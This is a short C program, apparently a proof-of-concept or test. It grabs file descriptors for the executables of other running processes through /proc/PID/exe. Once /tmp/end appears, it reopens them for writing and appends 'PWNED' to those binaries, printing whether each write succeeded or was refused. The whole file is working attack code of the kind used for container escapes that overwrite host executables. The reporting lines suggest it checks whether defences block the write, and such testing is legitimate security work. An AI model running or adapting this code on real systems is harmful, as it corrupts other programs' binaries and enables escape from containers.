/* Holds on to every program but its own and busybox that /proc/PID/exe shows, until /tmp/end is there, and writes to them then. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int is(const struct stat *found, const char *path) {
    struct stat known;
    return stat(path, &known) == 0 && known.st_dev == found->st_dev && known.st_ino == found->st_ino;
}

int main(void) {
    int held[64], count = 0;
    char path[300];
    DIR *proc = opendir("/proc");
    while (access("/tmp/end", F_OK) != 0) {
        struct dirent *entry;
        rewinddir(proc);
        while ((entry = readdir(proc)) != NULL && count < 64) {
            struct stat found;
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (fstat(fd, &found) != 0 || is(&found, "/proc/self/exe") || is(&found, "/bin/busybox"))
                close(fd);
            else
                held[count++] = fd;
        }
    }
    for (int i = 0; i < count; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0 && write(fd, "PWNED", 5) == 5)
            printf("written\n");
        else
            printf("refused: %s\n", strerror(errno));
    }
    printf("seen: %d\n", count);
    fflush(stdout);
    return 0;
}
